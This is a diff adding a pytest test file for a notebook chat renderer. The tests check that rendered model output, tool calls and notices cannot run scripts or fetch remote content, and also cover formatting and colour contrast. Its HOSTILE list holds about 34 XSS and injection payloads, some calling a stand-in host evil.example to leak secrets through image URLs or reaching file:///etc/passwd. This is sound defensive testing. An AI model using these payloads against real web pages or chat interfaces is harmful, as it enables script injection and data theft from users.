@@ -1,0 +1,289 @@
+"""Rendering: what is said looks right, and nothing that is said can run or fetch."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+
+from nbchat.events import (
+    CompactionFailed,
+    CompactionSkipped,
+    CompactionStarted,
+    CompactionUndone,
+    SavingFailed,
+    TurnFailed,
+)
+from nbchat.history import FAILED, INCOMPLETE, Compaction, Entry, Usage
+from nbchat.markdown import _host, displayable, markdown_html, pygments_css
+from nbchat.render import (
+    OUTPUT_LIMIT,
+    Notice,
+    compaction_html,
+    compaction_text,
+    entry_html,
+    note_html,
+    notice_html,
+    notice_text,
+    text_html,
+)
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><path/></svg>",
+    "<iframe src=https://evil.example></iframe>",
+    "<object data=https://evil.example></object><embed src=https://evil.example>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<form action=https://evil.example><input name=a><button>go</button></form>",
+    "<video src=https://evil.example/v autoplay></video>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<div style='background:url(https://evil.example/x)'>x</div>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    '"><img src=x onerror=alert(1)>',
+    "' onmouseover='alert(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
+    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\tscript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:https://a/b)",
+    "[x](/lab/api/shutdown) [y](//evil.example/x) [z](api/kernels?token=1)",
+    "[x](&#106;avascript:alert(1)) <javascript:alert(1)>",
+    "![secret](https://evil.example/?q=secret)",
+    "![s][1]\n\n[1]: https://evil.example/?q=secret",
+    "![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "[![nested](https://evil.example/a.png)](https://evil.example/b)",
+    "```<img src=x onerror=alert(1)>\ncode\n```",
+    "```html\n<script>alert(1)</script><img src=https://evil.example>\n```",
+    '[x](https://a.example "\\" onmouseover=alert(1)") <b onclick=alert(1)>b</b>',
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "x\ud800<img src=x onerror=alert(1)>\x00</pre></details></article>",
+]
+
+TAGS = {
+    *("article", "div", "details", "summary", "span", "pre", "code", "p", "a", "em"),
+    *("strong", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "br"),
+    *("blockquote", "hr", "s", "h1", "h2", "h3", "h4", "h5", "h6"),
+}
+
+ATTRIBUTES = {
+    *("class", "aria-label", "data-call", "data-state", "data-language", "href"),
+    *("rel", "target", "style", "start"),
+}
+
+ROLES = ["user", "assistant", "tool", "thinking", "summary", "what's <this>"]
+
+
+class Elements(HTMLParser):
+    """Every element of a document, as a browser would see it."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def assert_harmless(html: str) -> None:
+    """Only known elements and attributes, and links only to where a click may lead."""
+    html.encode()
+    for tag, attributes in Elements(html).found:
+        assert tag in TAGS
+        assert set(attributes) <= ATTRIBUTES
+        assert re.fullmatch(
+            r"(text-align:(left|center|right))?", attributes.get("style") or ""
+        )
+        if "href" in attributes:
+            assert re.match(r"(https?://|mailto:)", attributes["href"] or "")
+        if tag == "a":
+            assert attributes["rel"] == "noopener noreferrer"
+            assert attributes["target"] == "_blank"
+
+
+@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
+def test_nothing_runs_or_is_fetched_whatever_a_model_writes(payload: str) -> None:
+    assert_harmless(markdown_html(payload))
+    assert_harmless(text_html(payload))
+    assert_harmless(note_html(payload))
+
+
+@pytest.mark.parametrize("role", ROLES)
+@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
+def test_nothing_runs_whatever_field_of_an_entry_it_is_in(
+    role: str, payload: str
+) -> None:
+    assert_harmless(entry_html(Entry(role, payload)))
+    assert_harmless(entry_html(Entry(role, payload, payload, payload, payload)))
+    arguments = '{"' + "<b onclick=alert(1)>" + '": "<script>alert(1)</script>"}'
+    assert_harmless(entry_html(Entry(role, payload, payload, payload, arguments)))
+
+
+@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
+def test_nothing_runs_whatever_an_error_or_summary_says(payload: str) -> None:
+    record = Compaction("c", 0, 1, payload, model=payload, reason=payload)
+    assert_harmless(compaction_html(record))
+    for event in notices(payload):
+        assert_harmless(notice_html(event))
+
+
+def notices(text: str) -> list[Notice]:
+    """One of each, saying `text`."""
+    record = Compaction("c", 0, 1, text, reason=text, status="failed")
+    return [
+        CompactionStarted(text, 1, 10),
+        CompactionSkipped(text),
+        CompactionFailed(record),
+        CompactionUndone(record),
+        SavingFailed(text),
+        TurnFailed(text),
+    ]
+
+
+def test_markdown_has_tables_lists_and_strikethrough() -> None:
+    html = markdown_html("| a |\n|--:|\n| 1 |\n\n3. x\n\n~~no~~ **yes**")
+    for part in ('<td style="text-align:right">1</td>', '<ol start="3">', "<s>no</s>"):
+        assert part in html
+
+
+def test_code_is_coloured_by_classes_and_names_its_language() -> None:
+    html = markdown_html("```python\ndef f(): ...\n```")
+    assert 'data-language="python"' in html
+    assert '<span class="k">def</span>' in html
+
+
+def test_code_of_an_unknown_language_or_endless_length_stays_plain() -> None:
+    assert "<code>x &lt; y" in markdown_html("```nosuch\nx < y\n```")
+    assert "<span" not in markdown_html(f"```python\n{'a = 1;' * 10_000}\n```")
+
+
+def test_an_image_becomes_a_link_that_names_its_host() -> None:
+    html = markdown_html("![a chart](https://images.example/x.png?q=1)")
+    assert ">a chart (image at images.example)</a>" in html
+    assert "no host" in markdown_html("![](https://[::1/x.png)")
+    assert _host("https://[no address") == "no host"
+
+
+def test_links_open_in_a_new_tab_without_telling_where_from() -> None:
+    assert markdown_html("[x](https://a.example/)") == (
+        '<p><a href="https://a.example/" target="_blank" rel="noopener noreferrer">x'
+        "</a></p>\n"
+    )
+
+
+def test_what_a_person_typed_is_shown_as_typed() -> None:
+    html = entry_html(Entry("user", "a *b*\n  <c>"))
+    assert '<div class="nbc-text">a *b*\n  &lt;c&gt;</div>' in html
+
+
+def test_an_attached_file_shows_its_kind_and_caption() -> None:
+    html = entry_html(Entry("user", "see", "", "image", '{"media_type": "image/png"}'))
+    assert "image · image/png" in html
+    assert "see" in html
+
+
+def test_a_call_is_a_card_with_a_hint_and_all_arguments() -> None:
+    call = Entry("assistant", "", "c1", "search", '{"query": "x", "limit": 5}')
+    html = entry_html(call)
+    assert 'data-call="c1"' in html
+    assert "query=&quot;x&quot;, limit=5" in html
+    assert "  &quot;limit&quot;: 5\n}" in html
+
+
+def test_long_arguments_are_cut_in_the_hint_and_broken_ones_are_shown() -> None:
+    assert "…</span>" in entry_html(
+        Entry("assistant", "", "c", "t", f'{{"a": "{"x" * 200}"}}')
+    )
+    assert "{broken" in entry_html(Entry("assistant", "", "c", "t", "{broken"))
+
+
+def test_a_result_says_whether_it_failed_and_is_bounded() -> None:
+    assert 'data-state="failed"' in entry_html(Entry("tool", "no", "c", "t", FAILED))
+    html = entry_html(Entry("tool", "x" * (OUTPUT_LIMIT + 1_234), "c", "t"))
+    assert 'data-state="done"' in html
+    assert "1,234 more characters" in html
+
+
+def test_an_interrupted_answer_says_so() -> None:
+    assert "stopped here" in entry_html(Entry("assistant", "ha", tool_args=INCOMPLETE))
+    assert "stopped here" not in entry_html(Entry("assistant", "ha"))
+
+
+def test_hidden_thinking_takes_no_room() -> None:
+    assert entry_html(Entry("thinking", "", "", "openai", "{}")) == ""
+    assert "hm" in entry_html(Entry("thinking", "hm", "", "openai", "{}"))
+
+
+def test_a_summary_is_told_without_its_tags_and_its_facts_stay_verbatim() -> None:
+    text = "<summary>\n# Goal\n</summary>\n<facts>\n- a  *b*\n</facts>"
+    html = entry_html(Entry("summary", text))
+    assert "<h1>Goal</h1>" in html
+    assert '<pre class="nbc-output">- a  *b*</pre>' in html
+    assert "facts&gt;" not in html
+
+
+def test_the_banner_tells_what_was_folded_and_what_it_saved() -> None:
+    record = Compaction("c", 2, 14, "<summary>S</summary>", 5_230, 410, Usage(600, 20))
+    assert compaction_text(record) == (
+        "Compaction occurred: 12 entries folded, 5,230 → 410 tokens (\u221292%)"
+    )
+    html = compaction_html(record)
+    for part in ("Compaction occurred", "12 entries folded", "620 tokens", "<p>S</p>"):
+        assert part in html
+
+
+@pytest.mark.parametrize(
+    ("status", "words"),
+    [
+        ("done", "Compaction occurred"),
+        ("degraded", "Compaction occurred, degraded"),
+        ("undone", "Compaction undone"),
+        ("failed", "Compaction failed"),
+    ],
+)
+def test_each_status_has_its_words(status: str, words: str) -> None:
+    record = Compaction("c", 0, 1, "s", status=status, reason="why")  # type: ignore[arg-type]
+    assert compaction_text(record) == f"{words}: 1 entry folded, 0 → 0 tokens (why)"
+    assert f'data-state="{status}"' in compaction_html(record)
+
+
+def test_notices_are_sentences() -> None:
+    assert [notice_text(event) for event in notices("why")] == [
+        "Compacting: 1 entry, 10 tokens …",
+        "Compaction skipped: why",
+        "Compaction failed, the conversation is unchanged: why",
+        "Compaction undone: the model sees the original 1 entry again",
+        "Not saved, the chat goes on in memory: why",
+        "why",
+    ]
+
+
+def test_any_string_can_be_sent() -> None:
+    assert displayable("a\ud83d\udc00b") == "a\ufffd\ufffdb"
+    markdown_html("\ud800 `\udfff` \x00").encode()
+
+
+def test_every_code_colour_is_readable_in_light_and_dark() -> None:
+    for light, dark in re.findall(r"light-dark\((#\w+), (#\w+)\)", pygments_css()):
+        assert contrast(light, "#f6f7f9") >= 4.5
+        assert contrast(dark, "#1f2328") >= 4.5
+
+
+def contrast(one: str, other: str) -> float:
+    """The ratio of WCAG 2: 4.5 is the least for text."""
+    darker, lighter = sorted(map(luminance, (one, other)))
+    return (lighter + 0.05) / (darker + 0.05)
+
+
+def luminance(colour: str) -> float:
+    shares = (int(colour[place : place + 2], 16) / 255 for place in (1, 3, 5))
+    linear = [
+        share / 12.92 if share <= 0.04045 else ((share + 0.055) / 1.055) ** 2.4
+        for share in shares
+    ]
+    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
